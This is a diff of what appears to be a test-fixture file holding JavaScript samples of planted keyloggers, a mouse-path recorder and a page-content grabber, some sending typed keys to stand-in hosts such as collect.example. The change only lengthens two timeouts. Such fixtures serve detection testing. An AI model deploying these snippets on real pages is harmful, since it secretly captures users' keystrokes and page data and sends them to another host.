@@ -28,7 +28,7 @@ addEventListener("pagehide", () => navigator.sendBeacon("/planted/keys", typed))
 """
 _KEYS_TO_OTHER_HOST = """
 let typed = ""; document.addEventListener("keyup", (event) => { typed += event.key; });
-setTimeout(() => { new Image().src = "https://collect.example/k?d=" + encodeURIComponent(btoa(typed)); }, 1500);
+setTimeout(() => { new Image().src = "https://collect.example/k?d=" + encodeURIComponent(btoa(typed)); }, 30000);
 """
 _KEY_BY_KEY = """
 document.onkeypress = (event) => fetch("https://single.example/key", { method: "POST", mode: "no-cors",
@@ -46,7 +46,7 @@ for (const field of document.querySelectorAll("input")) field.addEventListener("
 """
 _MOUSE = """
 const path = []; addEventListener("mousemove", (event) => path.push({ x: event.clientX, y: event.clientY }));
-setTimeout(() => fetch("/planted/replay", { method: "POST", body: JSON.stringify({ path }) }), 2000);
+setTimeout(() => fetch("/planted/replay", { method: "POST", body: JSON.stringify({ path }) }), 30000);
 """
 _PAGE_CONTENT = """
 addEventListener("load", () => fetch("/planted/replay", { method: "POST", body: document.documentElement.outerHTML }));
